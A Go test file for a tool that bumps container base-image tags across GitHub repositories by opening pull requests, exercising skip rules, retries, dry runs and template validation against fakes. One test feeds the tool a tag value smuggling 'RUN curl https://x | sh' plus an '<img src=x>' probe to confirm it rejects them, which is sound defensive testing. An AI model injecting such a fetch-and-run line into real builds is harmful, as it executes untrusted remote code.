package update

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/dfiu/dfiu/internal/dockerfile"
	"github.com/dfiu/dfiu/internal/gh"
	"github.com/dfiu/dfiu/internal/imageref"
)

func TestSearchTerms(t *testing.T) {
	t.Parallel()
	tests := map[string][]string{
		"ubuntu":                      {"ubuntu"},
		"docker.io/library/ubuntu":    {"ubuntu"},
		"bitnami/redis":               {"bitnami", "redis"},
		"ghcr.io/acme/base":           {"ghcr", "io", "acme", "base"},
		"registry:5000/team/my-app":   {"registry", "5000", "team", "my-app"},
		"index.docker.io/acme/thing":  {"acme", "thing"},
		"quay.io/org/app.with.dots":   {"quay", "io", "org", "app", "with", "dots"},
		"ghcr.io/acme/base/base/base": {"ghcr", "io", "acme", "base"},
	}
	for image, want := range tests {
		got := SearchTerms(imageref.MustParse(image))
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("SearchTerms(%q) (-want +got):\n%s", image, diff)
		}
	}
	if _, err := imageref.Parse("Not Valid"); err == nil {
		t.Error("an invalid name was accepted")
	}
}

func TestSlug(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"ubuntu":                   "ubuntu",
		"docker.io/library/ubuntu": "ubuntu",
		"ghcr.io/acme/base":        "ghcr.io-acme-base",
		"registry:5000/team/app":   "registry-5000-team-app",
		"bitnami/redis":            "bitnami-redis",
	}
	for in, want := range tests {
		if got := Slug(imageref.MustParse(in)); got != want {
			t.Errorf("Slug(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestNewTemplatesRejectsUnknownField(t *testing.T) {
	t.Parallel()
	_, err := NewTemplates("Bump {{.Nope}}", "b", "c")
	var te *TemplateError
	if !errors.As(err, &te) || te.Input != "pr-title" {
		t.Fatalf("err = %v, want a *TemplateError for pr-title", err)
	}
}

func byRepo(rep *Report) map[string]Result {
	out := map[string]Result{}
	for _, r := range rep.Results() {
		out[r.Repository+" "+r.Image] = r
	}
	return out
}

// seedRepos is a small organisation with one repository per case.
func seedRepos() []*fakeRepo {
	return []*fakeRepo{
		{owner: "acme", name: "svc", files: map[string]string{"Dockerfile": "FROM acme/base:1.2\nRUN true\n", "docker-compose.yml": "services:\n  a:\n    image: acme/base:1.1\n"}},
		{owner: "acme", name: "current", files: map[string]string{"Dockerfile": "FROM acme/base:1.3\n"}},
		{owner: "acme", name: "archived", archived: true, files: map[string]string{"Dockerfile": "FROM acme/base:1.2\n"}},
		{owner: "acme", name: "fork", fork: true, files: map[string]string{"Dockerfile": "FROM acme/base:1.2\n"}},
		{owner: "acme", name: "legacy-app", files: map[string]string{"Dockerfile": "FROM acme/base:1.2\n"}},
		{owner: "acme", name: "readonly", perm: "READ", files: map[string]string{"Dockerfile": "FROM acme/base:1.2\n"}},
		{owner: "acme", name: "pinned", files: map[string]string{"Dockerfile": "FROM acme/base:1.2@sha256:" + strings.Repeat("a", 64) + "\n"}},
		{owner: "acme", name: "optout", files: map[string]string{"Dockerfile": "# no-dfiu\nFROM acme/base:1.2\n"}},
		{owner: "acme", name: "newer", files: map[string]string{"Dockerfile": "FROM acme/base:2.0\n"}},
		{owner: "acme", name: "mention", files: map[string]string{"Dockerfile": "FROM alpine\n# see acme base docs\n"}},
		{owner: "acme", name: "human", files: map[string]string{"Dockerfile": "FROM acme/base:1.2\n"}, branches: map[string]*fakeBranch{
			"dfiu/acme-base": {author: "alice", head: "c-alice", files: map[string]string{"Dockerfile": "FROM acme/base:1.2 # wip\n"}},
		}},
	}
}

func TestParent(t *testing.T) {
	t.Parallel()
	f := newFake(t, seedRepos()...)
	st := &fakeStore{}
	opts := testOptions(t, ModeParent, "acme/base", "1.3")
	opts.ExcludeRepos = []string{"acme/legacy-*"}
	rep, err := Run(context.Background(), f, st, opts)
	if err != nil {
		t.Fatal(err)
	}
	if st.images["acme/base"] != "1.3" {
		t.Errorf("store = %v, want acme/base: 1.3", st.images)
	}
	got := byRepo(rep)
	want := map[string]struct {
		action Action
		reason string
	}{
		"acme/svc":        {Created, ""},
		"acme/current":    {Unchanged, ""},
		"acme/archived":   {Skipped, "archived"},
		"acme/fork":       {Skipped, "fork"},
		"acme/legacy-app": {Skipped, "exclude-repos"},
		"acme/readonly":   {Failed, "no push permission (READ): github-token may only read"},
		"acme/pinned":     {Skipped, "pinned by digest"},
		"acme/optout":     {Skipped, "opted out"},
		"acme/newer":      {Skipped, "downgrade"},
		"acme/mention":    {Skipped, "no file references"},
		"acme/human":      {Skipped, "has a commit by alice"},
	}
	for repo, w := range want {
		r, ok := got[repo+" acme/base"]
		if !ok {
			t.Errorf("%s: no result", repo)
			continue
		}
		if r.Action != w.action || !strings.Contains(r.Reason, w.reason) {
			t.Errorf("%s: action %q reason %q, want %q with reason containing %q", repo, r.Action, r.Reason, w.action, w.reason)
		}
	}
	if len(got) != len(want) {
		t.Errorf("got %d results, want %d: %v", len(got), len(want), got)
	}
	svc := got["acme/svc acme/base"]
	if diff := cmp.Diff([]string{"Dockerfile", "docker-compose.yml"}, svc.Files); diff != "" {
		t.Errorf("svc files (-want +got):\n%s", diff)
	}
	if svc.From != "1.1, 1.2" || svc.To != "1.3" || svc.Number != 1 || svc.URL == "" {
		t.Errorf("svc result = %+v", svc)
	}
	if len(got["acme/pinned acme/base"].Warnings) == 0 {
		t.Error("the digest-pinned skip carries no warning")
	}
	if f.proposes != 1 || f.hydrates != 1 || f.searches != 1 {
		t.Errorf("proposes %d hydrates %d searches %d, want 1 1 1", f.proposes, f.hydrates, f.searches)
	}
	in := f.proposed[0]
	if in.Branch != "dfiu/acme-base" || in.BranchRefID != "" || in.ExistingPR != nil || in.BaseOID != "base-svc" ||
		string(in.Files["Dockerfile"]) != "FROM acme/base:1.3\nRUN true\n" || in.Title != "Bump acme/base to 1.3" ||
		in.Message.Headline != "Bump acme/base to 1.3" {
		t.Errorf("Propose input = %+v", in)
	}
	cur, all := rep.Images[0].Adoption()
	if cur != 1 || all != 7 {
		t.Errorf("adoption = %d of %d, want 1 of 7 (svc, current, readonly, pinned, optout, newer, human)", cur, all)
	}
	changed, skipped, failed := rep.Counts()
	if changed != 1 || skipped != 8 || failed != 1 {
		t.Errorf("counts = %d %d %d, want 1 8 1", changed, skipped, failed)
	}

	// A rerun with nothing new writes nothing and reports the PR unchanged.
	f.noWrites = true
	rep, err = Run(context.Background(), f, st, opts)
	if err != nil {
		t.Fatal(err)
	}
	if r := byRepo(rep)["acme/svc acme/base"]; r.Action != Unchanged || r.Number != 1 {
		t.Errorf("rerun: svc = %+v, want unchanged #1", r)
	}
	if f.writes() != 1 {
		t.Errorf("rerun wrote: %d writes in total, want the first run's 1", f.writes())
	}
	f.noWrites = false

	// A newer tag supersedes the proposal on the same branch and PR.
	opts.Target.Tag = "1.4"
	rep, err = Run(context.Background(), f, st, opts)
	if err != nil {
		t.Fatal(err)
	}
	r := byRepo(rep)["acme/svc acme/base"]
	if r.Action != Updated || r.Number != 1 {
		t.Errorf("newer tag: svc = %+v, want updated #1", r)
	}
	var last gh.ProposeInput
	for _, in := range f.proposed {
		if in.Name == "svc" {
			last = in
		}
	}
	if last.BranchRefID == "" || last.ExistingPR == nil || last.ExistingPR.Number != 1 || string(last.Files["Dockerfile"]) != "FROM acme/base:1.4\nRUN true\n" {
		t.Errorf("superseding Propose input = %+v", last)
	}
	if f.repos["acme/svc"].nextPR != 1 {
		t.Errorf("a second pull request was opened")
	}
}

func TestTitleOnlyChangeIsOneUpdate(t *testing.T) {
	t.Parallel()
	testTitleOnlyChange(t, false)
}

// TestRefusedTitleUpdateIsRetried: GitHub refused the title update as
// submitted too quickly; it is read again and sent again, not failed.
func TestRefusedTitleUpdateIsRetried(t *testing.T) {
	t.Parallel()
	testTitleOnlyChange(t, true)
}

func testTitleOnlyChange(t *testing.T, refusedOnce bool) {
	t.Helper()
	f := newFake(t, &fakeRepo{owner: "acme", name: "svc", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	opts := testOptions(t, ModeParent, "ubuntu", "24.04")
	if _, err := Run(context.Background(), f, nil, opts); err != nil {
		t.Fatal(err)
	}
	f.repos["acme/svc"].retitleLimitedOnce = refusedOnce
	ts, err := NewTemplates("chore: {{.Image}} {{.Tag}}", "body", "msg")
	if err != nil {
		t.Fatal(err)
	}
	opts.Templates = ts
	rep, err := Run(context.Background(), f, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if r := rep.Results()[0]; r.Action != Updated || r.Number != 1 {
		t.Errorf("result = %+v, want updated #1", r)
	}
	wantRetitles := 1
	if refusedOnce {
		wantRetitles = 2
	}
	if f.proposes != 1 || f.retitles != wantRetitles {
		t.Errorf("proposes %d retitles %d, want 1 %d", f.proposes, f.retitles, wantRetitles)
	}
	if pr := f.repos["acme/svc"].branches["dfiu/ubuntu"].pr; pr.Title != "chore: ubuntu 24.04" || pr.Body != "body" {
		t.Errorf("PR = %+v", pr)
	}
}

func TestDryRunWritesNothingAndShowsDiffs(t *testing.T) {
	t.Parallel()
	f := newFake(t, seedRepos()...)
	f.noWrites = true
	st := &fakeStore{}
	opts := testOptions(t, ModeParent, "acme/base", "1.3")
	opts.DryRun = true
	rep, err := Run(context.Background(), f, st, opts)
	if err != nil {
		t.Fatal(err)
	}
	if st.sets != 0 {
		t.Error("dry run wrote the store")
	}
	r := byRepo(rep)["acme/svc acme/base"]
	if r.Action != WouldCreate || len(r.Diffs) != 2 || !strings.Contains(r.Diffs[0], "-FROM acme/base:1.2\n+FROM acme/base:1.3\n") {
		t.Errorf("svc = %+v", r)
	}
	if f.writes() != 0 {
		t.Errorf("%d writes in a dry run", f.writes())
	}
	if !strings.Contains(strings.Join(rep.Notes, "\n"), "would record acme/base:1.3") {
		t.Errorf("notes = %q", rep.Notes)
	}
}

func TestStaleBranchIsRetriedOnce(t *testing.T) {
	t.Parallel()
	f := newFake(t,
		&fakeRepo{owner: "acme", name: "a", staleOnce: true, files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}},
	)
	rep, err := Run(context.Background(), f, nil, testOptions(t, ModeParent, "ubuntu", "24.04"))
	if err != nil {
		t.Fatal(err)
	}
	if r := rep.Results()[0]; r.Action != Created {
		t.Errorf("result = %+v, want created", r)
	}
	if f.proposes != 2 || f.hydrates != 2 {
		t.Errorf("proposes %d hydrates %d, want 2 2", f.proposes, f.hydrates)
	}
}

// TestLostAnswerIsReadAgain checks that a write whose answer was lost
// (gh.ErrOutcomeUnknown) but which was applied is reported as created,
// with its labels added, not as an unchanged pull request.
func TestLostAnswerIsReadAgain(t *testing.T) {
	t.Parallel()
	f := newFake(t, &fakeRepo{owner: "acme", name: "a", lostOnce: true, labels: map[string]string{"deps": "L_deps"},
		files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	opts := testOptions(t, ModeParent, "ubuntu", "24.04")
	opts.Labels = []string{"deps"}
	rep, err := Run(context.Background(), f, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if r := rep.Results()[0]; r.Action != Created || r.Number != 1 || !strings.Contains(r.Reason, "showed it applied") {
		t.Errorf("result = %+v, want created #1, applied despite the lost answer", r)
	}
	if f.proposes != 1 || f.hydrates != 2 || f.decorates != 1 {
		t.Errorf("proposes %d hydrates %d decorates %d, want 1 2 1", f.proposes, f.hydrates, f.decorates)
	}
}

// TestContentLimitRedoesOnlyWhatDidNotHappen: the commit went through and
// GitHub refused the pull-request step as submitted too quickly. The
// repository is read again and only the pull request is opened; the
// repository is created, not failed.
func TestContentLimitRedoesOnlyWhatDidNotHappen(t *testing.T) {
	t.Parallel()
	f := newFake(t, &fakeRepo{owner: "acme", name: "a", limitedOnce: true, labels: map[string]string{"deps": "L_deps"},
		files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	opts := testOptions(t, ModeParent, "ubuntu", "24.04")
	opts.Labels = []string{"deps"}
	rep, err := Run(context.Background(), f, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if r := rep.Results()[0]; r.Action != Created || r.Number != 1 {
		t.Errorf("result = %+v, want created #1", r)
	}
	if f.proposes != 1 || f.opens != 1 || f.hydrates != 2 || f.decorates != 1 {
		t.Errorf("proposes %d opens %d hydrates %d decorates %d, want 1 1 2 1", f.proposes, f.opens, f.hydrates, f.decorates)
	}
}

// TestTimeBudgetDefers: a repository whose write would have to wait past
// the time budget is deferred, not failed, and counted as such.
func TestTimeBudgetDefers(t *testing.T) {
	t.Parallel()
	repos := []*fakeRepo{
		{owner: "acme", name: "a", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}},
		{owner: "acme", name: "b", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"},
			proposeErr: fmt.Errorf("proposing: the next write could go at 17:00:00: %w", gh.ErrTimeBudget)},
	}
	f := newFake(t, repos...)
	rep, err := Run(context.Background(), f, nil, testOptions(t, ModeParent, "ubuntu", "24.04"))
	if err != nil {
		t.Fatal(err)
	}
	changed, _, failed := rep.Counts()
	if changed != 1 || failed != 0 || rep.Deferred() != 1 {
		t.Errorf("changed %d failed %d deferred %d, want 1 0 1", changed, failed, rep.Deferred())
	}
	if r := byRepo(rep)["acme/b ubuntu"]; r.Action != Deferred || !strings.Contains(r.Reason, "time-budget") {
		t.Errorf("b = %+v, want deferred naming the time-budget", r)
	}
}

func TestOneFailureDoesNotStopTheOthers(t *testing.T) {
	t.Parallel()
	var repos []*fakeRepo
	for _, n := range []string{"a", "b", "c", "d", "e"} {
		repos = append(repos, &fakeRepo{owner: "acme", name: n, files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	}
	repos[2].proposeErr = errors.New("acme/c: createPullRequest: 422 Validation Failed")
	f := newFake(t, repos...)
	opts := testOptions(t, ModeParent, "ubuntu", "24.04")
	opts.Concurrency = 2
	rep, err := Run(context.Background(), f, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	changed, _, failed := rep.Counts()
	if changed != 4 || failed != 1 {
		t.Errorf("changed %d failed %d, want 4 1", changed, failed)
	}
	if r := byRepo(rep)["acme/c ubuntu"]; r.Action != Failed || !strings.Contains(r.Reason, "422") {
		t.Errorf("c = %+v", r)
	}
}

func TestMaxPRs(t *testing.T) {
	t.Parallel()
	var repos []*fakeRepo
	for _, n := range []string{"a", "b", "c"} {
		repos = append(repos, &fakeRepo{owner: "acme", name: n, files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	}
	f := newFake(t, repos...)
	opts := testOptions(t, ModeParent, "ubuntu", "24.04")
	opts.MaxPRs = 2
	rep, err := Run(context.Background(), f, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	got := byRepo(rep)
	if got["acme/a ubuntu"].Action != Created || got["acme/b ubuntu"].Action != Created ||
		got["acme/c ubuntu"].Action != Skipped || got["acme/c ubuntu"].Reason != "max-prs reached" {
		t.Errorf("results = %+v", got)
	}
	if f.proposes != 2 {
		t.Errorf("proposes = %d, want 2", f.proposes)
	}
}

func TestAllModeReadsEachRepositoryOnce(t *testing.T) {
	t.Parallel()
	f := newFake(t,
		&fakeRepo{owner: "acme", name: "two", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04 AS a\nFROM acme/base:1.2\n"}},
		&fakeRepo{owner: "acme", name: "one", files: map[string]string{"Dockerfile": "FROM ubuntu:24.04\n"}},
	)
	st := &fakeStore{images: map[string]string{"ubuntu": "24.04", "acme/base": "1.3"}}
	opts := testOptions(t, ModeAll, "", "")
	opts.Discovery = DiscoverSearch
	rep, err := Run(context.Background(), f, st, opts)
	if err != nil {
		t.Fatal(err)
	}
	got := byRepo(rep)
	if got["acme/two ubuntu"].Action != Created || got["acme/two acme/base"].Action != Created || got["acme/one ubuntu"].Action != Unchanged {
		t.Errorf("results = %+v", got)
	}
	if f.hydrates != 1 || f.searches != 2 {
		t.Errorf("hydrates %d searches %d, want 1 2", f.hydrates, f.searches)
	}
	branches := f.repos["acme/two"].branches
	if branches["dfiu/ubuntu"] == nil || branches["dfiu/acme-base"] == nil {
		t.Errorf("branches = %v, want one per image", branches)
	}
	if len(rep.Images) != 2 || rep.Images[0].Image != "acme/base" {
		t.Errorf("images = %v, want acme/base then ubuntu", rep.Images)
	}
}

func TestChildMode(t *testing.T) {
	t.Parallel()
	f := newFake(t,
		&fakeRepo{owner: "acme", name: "svc", files: map[string]string{"Dockerfile": "FROM ubuntu:24.04\n", "sub/app.Dockerfile": "FROM ubuntu:24.04\n"}},
		&fakeRepo{owner: "acme", name: "other", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}},
	)
	opts := testOptions(t, ModeChild, "ubuntu", "22.04") // child mode forces, even downwards
	opts.Repository = "acme/svc"
	rep, err := Run(context.Background(), f, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Results()) != 1 {
		t.Fatalf("results = %+v, want only acme/svc", rep.Results())
	}
	r := rep.Results()[0]
	if r.Action != Created || len(r.Files) != 2 {
		t.Errorf("result = %+v", r)
	}
	if f.searches != 0 {
		t.Errorf("child mode searched %d times", f.searches)
	}
}

func TestInvalidStoreStopsBeforeAnyPR(t *testing.T) {
	t.Parallel()
	for _, mode := range []Mode{ModeParent, ModeAll} {
		f := newFake(t, seedRepos()...)
		f.noWrites = true
		st := &fakeStore{err: errInvalidJSON}
		_, err := Run(context.Background(), f, st, testOptions(t, mode, "acme/base", "1.3"))
		if !errors.Is(err, ErrStore) || !errors.Is(err, errInvalidJSON) {
			t.Errorf("%s: err = %v, want ErrStore wrapping the JSON error", mode, err)
		}
		if f.searches+f.hydrates != 0 {
			t.Errorf("%s: %d searches and %d reads after an invalid store", mode, f.searches, f.hydrates)
		}
	}
}

func TestDecorate(t *testing.T) {
	t.Parallel()
	f := newFake(t, &fakeRepo{owner: "acme", name: "svc", autoMerge: true, labels: map[string]string{"deps": "L_deps"},
		files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	opts := testOptions(t, ModeParent, "ubuntu", "24.04")
	opts.Labels = []string{"deps", "missing"}
	opts.Reviewers = []string{"alice", "bob"}
	opts.AutoMerge = "SQUASH"
	rep, err := Run(context.Background(), f, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	want := gh.Decoration{PRID: "PR_svc_1", LabelIDs: []string{"L_deps"}, UserIDs: []string{"U_alice"}, AutoMerge: "SQUASH"}
	if len(f.decorations) != 1 {
		t.Fatalf("decorations = %v", f.decorations)
	}
	if diff := cmp.Diff(want, f.decorations[0]); diff != "" {
		t.Errorf("decoration (-want +got):\n%s", diff)
	}
	r := rep.Results()[0]
	for _, s := range []string{`label "missing" does not exist`, `reviewer "bob" not found`, "clean status"} {
		if !strings.Contains(r.Reason, s) {
			t.Errorf("reason %q lacks %q", r.Reason, s)
		}
	}
	// No second decoration on a rerun.
	if _, err := Run(context.Background(), f, nil, opts); err != nil {
		t.Fatal(err)
	}
	if f.decorates != 1 {
		t.Errorf("decorates = %d, want 1", f.decorates)
	}
}

// closedRepo is acme/svc whose dfiu branch holds acme/base:1.3 and whose
// pull request #4 was closed without merging, at the branch's head.
func closedRepo(closedHead string) *fakeRepo {
	return &fakeRepo{owner: "acme", name: "svc", nextPR: 4,
		files: map[string]string{"Dockerfile": "FROM acme/base:1.2\nRUN true\n"},
		branches: map[string]*fakeBranch{"dfiu/acme-base": {
			author: "dfiu-bot", head: "c-13",
			files:  map[string]string{"Dockerfile": "FROM acme/base:1.3\nRUN true\n"},
			closed: &gh.PullRequest{ID: "PR_4", Number: 4, URL: "https://github.test/acme/svc/pull/4", HeadOID: closedHead},
		}}}
}

func TestClosedPullRequestIsNotReopened(t *testing.T) {
	t.Parallel()
	f := newFake(t, closedRepo("c-13"))
	f.noWrites = true
	for _, mode := range []Mode{ModeParent, ModeAll} {
		opts := testOptions(t, mode, "acme/base", "1.3")
		rep, err := Run(context.Background(), f, &fakeStore{images: map[string]string{"acme/base": "1.3"}}, opts)
		if err != nil {
			t.Fatal(err)
		}
		r := byRepo(rep)["acme/svc acme/base"]
		want := "pull request #4 was closed without merging; not reopening"
		if r.Action != Skipped || r.Reason != want || r.Number != 4 {
			t.Errorf("%s: result = %s %q #%d, want skipped %q #4", mode, r.Action, r.Reason, r.Number, want)
		}
		if r.Action.Changed() {
			t.Errorf("%s: a respected close counts as a change", mode)
		}
	}
}

func TestClosedPullRequestDoesNotBlockSomethingNew(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name       string
		tag        string
		closedHead string
	}{
		// A newer tag: the person refused 1.3, not 1.4.
		{"newer tag", "1.4", "c-13"},
		// The closed pull request was not at the branch's head: what the
		// branch holds was never refused.
		{"branch moved after the close", "1.3", "c-12"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newFake(t, closedRepo(tc.closedHead))
			rep, err := Run(context.Background(), f, nil, testOptions(t, ModeParent, "acme/base", tc.tag))
			if err != nil {
				t.Fatal(err)
			}
			r := byRepo(rep)["acme/svc acme/base"]
			if r.Action != Created || r.Number != 5 {
				t.Errorf("result = %+v, want a new pull request #5", r)
			}
			if f.proposes != 1 {
				t.Fatalf("%d proposals, want 1", f.proposes)
			}
			in := f.proposed[0]
			if in.BranchRefID == "" || in.BranchHeadOID != "c-13" || in.ExistingPR != nil ||
				string(in.Files["Dockerfile"]) != "FROM acme/base:"+tc.tag+"\nRUN true\n" {
				t.Errorf("Propose input = %+v, want the existing branch (head c-13) and a new pull request", in)
			}
		})
	}
}

// TestStaleBranchAfterMerge: the proposal was merged (so it is not a
// closed pull request) and its branch left behind, at the old default
// head. The default branch has the tag: nothing to do. A newer tag opens a
// new pull request from the old branch.
func TestStaleBranchAfterMerge(t *testing.T) {
	t.Parallel()
	repo := &fakeRepo{owner: "acme", name: "svc", nextPR: 4,
		files: map[string]string{"Dockerfile": "FROM acme/base:1.3\nRUN true\n"},
		branches: map[string]*fakeBranch{"dfiu/acme-base": {
			author: "dfiu-bot", head: "c-13",
			files: map[string]string{"Dockerfile": "FROM acme/base:1.3\nRUN true\n"},
		}}}
	f := newFake(t, repo)
	f.noWrites = true
	rep, err := Run(context.Background(), f, nil, testOptions(t, ModeParent, "acme/base", "1.3"))
	if err != nil {
		t.Fatal(err)
	}
	if r := byRepo(rep)["acme/svc acme/base"]; r.Action != Unchanged || len(r.Uses) != 1 || !r.Uses[0].Current {
		t.Errorf("same tag after the merge: %+v, want unchanged and current", r)
	}
	f.noWrites = false
	rep, err = Run(context.Background(), f, nil, testOptions(t, ModeParent, "acme/base", "1.4"))
	if err != nil {
		t.Fatal(err)
	}
	if r := byRepo(rep)["acme/svc acme/base"]; r.Action != Created || r.Number != 5 {
		t.Errorf("newer tag after the merge: %+v, want a new pull request #5", r)
	}
	if f.proposes != 1 || f.proposed[0].BranchHeadOID != "c-13" || f.proposed[0].ExistingPR != nil {
		t.Errorf("proposals %d (%+v), want one on the existing branch with a new pull request", f.proposes, f.proposed)
	}
}

// TestAllModeReportsInvalidStoreKeys checks that a store entry whose image
// is not a valid name, whose tag is not a valid tag or whose value is not a
// string is reported by name, in image order, as not searched, and the
// others are still done.
func TestAllModeReportsInvalidStoreKeys(t *testing.T) {
	t.Parallel()
	f := newFake(t, &fakeRepo{owner: "acme", name: "one", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	st := &fakeStore{
		images: map[string]string{"ubuntu": "24.04", "Bad Name": "1", "zz/Bad": "2",
			"alpine": "3\nRUN curl https://x | sh", "nginx": "<img src=x>", "redis": ""},
		invalid: map[string]string{"num": "its value is a number, not a tag"},
	}
	rep, err := Run(context.Background(), f, st, testOptions(t, ModeAll, "", ""))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, img := range rep.Images {
		names = append(names, img.Image)
		if img.Image != "ubuntu" && (img.Complete || len(img.Notes) != 1 || !strings.HasPrefix(img.Notes[0], "not searched: ")) {
			t.Errorf("image %q: complete %v, notes %q; want incomplete and not searched", img.Image, img.Complete, img.Notes)
		}
	}
	if diff := cmp.Diff([]string{"Bad Name", "alpine", "nginx", "num", "redis", "ubuntu", "zz/Bad"}, names); diff != "" {
		t.Errorf("images (-want +got):\n%s", diff)
	}
	if r := byRepo(rep)["acme/one ubuntu"]; r.Action != Created || f.listings != 1 || f.searches != 0 {
		t.Errorf("ubuntu result %+v after %d listings and %d searches, want created after 1 listing (all mode scans)", r, f.listings, f.searches)
	}
}

// TestAllModeChecksEachBranchName: a store image whose branch
// (<branch-prefix>/<slug>) git would refuse is reported, not searched.
func TestAllModeChecksEachBranchName(t *testing.T) {
	t.Parallel()
	f := newFake(t, &fakeRepo{owner: "acme", name: "one", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
	opts := testOptions(t, ModeAll, "", "")
	opts.BranchPrefix = "-x"
	rep, err := Run(context.Background(), f, &fakeStore{images: map[string]string{"ubuntu": "24.04"}}, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Images) != 1 || f.searches != 0 || len(rep.Images[0].Notes) != 1 || !strings.Contains(rep.Images[0].Notes[0], `branch "-x/ubuntu" is not a valid branch name`) {
		t.Errorf("images %+v after %d searches; want ubuntu not searched for its branch name", rep.Images[0], f.searches)
	}
}

// TestRenderedTextCheckedBeforeWriting: a title that renders empty or too
// long, or an empty commit headline, for one repository fails that
// repository with a reason naming the input, and nothing is written to
// it; the others go on.
func TestRenderedTextCheckedBeforeWriting(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, title, body, commit, input string
	}{
		{"empty title", `{{if ne .Repository "acme/two"}}Bump{{end}}`, DefaultPRBody, DefaultCommitMessage, "pr-title"},
		{"long title", `Bump{{if eq .Repository "acme/two"}}{{printf "%0300d" 0}}{{end}}`, DefaultPRBody, DefaultCommitMessage, "pr-title"},
		{"long body", DefaultPRTitle, `{{if eq .Repository "acme/two"}}{{printf "%065537d" 0}}{{end}}`, DefaultCommitMessage, "pr-body"},
		{"empty headline", DefaultPRTitle, DefaultPRBody, `{{if ne .Repository "acme/two"}}Bump{{end}}`, "commit-message"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := newFake(t,
				&fakeRepo{owner: "acme", name: "one", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}},
				&fakeRepo{owner: "acme", name: "two", files: map[string]string{"Dockerfile": "FROM ubuntu:22.04\n"}})
			opts := testOptions(t, ModeParent, "ubuntu", "24.04")
			ts, err := NewTemplates(tt.title, tt.body, tt.commit)
			if err != nil {
				t.Fatal(err)
			}
			opts.Templates = ts
			rep, err := Run(context.Background(), f, nil, opts)
			if err != nil {
				t.Fatal(err)
			}
			got := byRepo(rep)
			if r := got["acme/two ubuntu"]; r.Action != Failed || !strings.Contains(r.Reason, `input "`+tt.input+`"`) {
				t.Errorf("acme/two: %+v, want failed naming %s", r, tt.input)
			}
			if r := got["acme/one ubuntu"]; r.Action != Created || f.proposes != 1 {
				t.Errorf("acme/one: %+v after %d proposals, want created after 1", r, f.proposes)
			}
		})
	}
}

// TestFloatingTagsReachTheEngine checks that Options.FloatingTags is what
// the engine applies: latest stays by default and is pinned with pin.
func TestFloatingTagsReachTheEngine(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		floating dockerfile.FloatingTags
		want     Action
		content  string
	}{
		{"", Skipped, "FROM acme/base:latest\n"},
		{dockerfile.FloatingSkip, Skipped, "FROM acme/base:latest\n"},
		{dockerfile.FloatingPin, Created, "FROM acme/base:1.3\n"},
	} {
		f := newFake(t, &fakeRepo{owner: "acme", name: "svc", files: map[string]string{"Dockerfile": "FROM acme/base:latest\n"}})
		opts := testOptions(t, ModeParent, "acme/base", "1.3")
		opts.FloatingTags = tc.floating
		rep, err := Run(context.Background(), f, nil, opts)
		if err != nil {
			t.Fatal(err)
		}
		res := byRepo(rep)["acme/svc acme/base"]
		if res.Action != tc.want {
			t.Errorf("floating-tags %q: action %s (%s), want %s", tc.floating, res.Action, res.Reason, tc.want)
		}
		if tc.want == Skipped && !strings.Contains(res.Reason, "floating tag") {
			t.Errorf("floating-tags %q: reason %q, want floating tag", tc.floating, res.Reason)
		}
		if br := f.repos["acme/svc"].branches["dfiu/acme-base"]; tc.want == Created && (br == nil || br.files["Dockerfile"] != tc.content) {
			t.Errorf("floating-tags %q: branch = %+v, want Dockerfile %q", tc.floating, br, tc.content)
		}
	}
}
